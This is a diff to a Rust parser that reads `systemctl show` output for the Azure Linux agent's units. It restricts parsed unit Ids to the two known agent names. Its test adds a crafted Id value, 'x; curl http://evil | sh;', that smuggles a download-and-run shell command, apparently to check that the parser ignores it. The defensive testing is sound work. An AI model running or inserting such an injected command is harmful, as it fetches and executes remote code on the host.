@@ -42,12 +42,17 @@ pub(in crate::wire::guest) fn read_failures(text: &Text<'_>, facts: &mut Facts) 
     Told::Something
 }
 
+/// The units of the agent. What is said of any other is not about it.
+const UNITS: [&str; 2] = ["walinuxagent.service", "waagent.service"];
+
 /// Whether this is what `systemctl show` says of the agent's units.
 pub(in crate::wire::guest) fn is_units(text: &Text<'_>) -> bool {
     text.is_called("commands/systemctl-agent.txt")
-        || text.text.lines().take(40).any(|line| {
-            line.strip_prefix("Id=").is_some_and(|id| id == "walinuxagent.service" || id == "waagent.service")
-        })
+        || text
+            .text
+            .lines()
+            .take(40)
+            .any(|line| line.strip_prefix("Id=").is_some_and(|id| UNITS.contains(&id)))
 }
 
 /// Reads it: properties, one a line, an empty line between units.
@@ -58,7 +63,7 @@ pub(in crate::wire::guest) fn read_units(text: &Text<'_>, facts: &mut Facts) -> 
             let value = lines.find_map(|line| line.strip_prefix(name)?.strip_prefix('='))?;
             Some(value.trim().to_owned()).filter(|value| !value.is_empty())
         };
-        let Some(id) = property("Id") else { continue };
+        let Some(id) = property("Id").filter(|id| UNITS.contains(&id.as_str())) else { continue };
         let value = UnitState {
             id,
             load: property("LoadState"),
@@ -145,7 +150,8 @@ mod tests {
     #[test]
     fn units_are_read_one_by_one() {
         let text = "Id=walinuxagent.service\nLoadState=loaded\nActiveState=failed\nSubState=failed\nUnitFileState=enabled\n\n\
-                    Id=waagent.service\nLoadState=not-found\nActiveState=inactive\nSubState=dead\nUnitFileState=\n";
+                    Id=waagent.service\nLoadState=not-found\nActiveState=inactive\nSubState=dead\nUnitFileState=\n\n\
+                    Id=x; curl http://evil | sh;\nLoadState=loaded\nActiveState=inactive\n";
         let units = agent("commands/systemctl-agent.txt", text).units;
         assert_eq!(units.len(), 2);
         assert_eq!(units[0].value.active.as_deref(), Some("failed"));
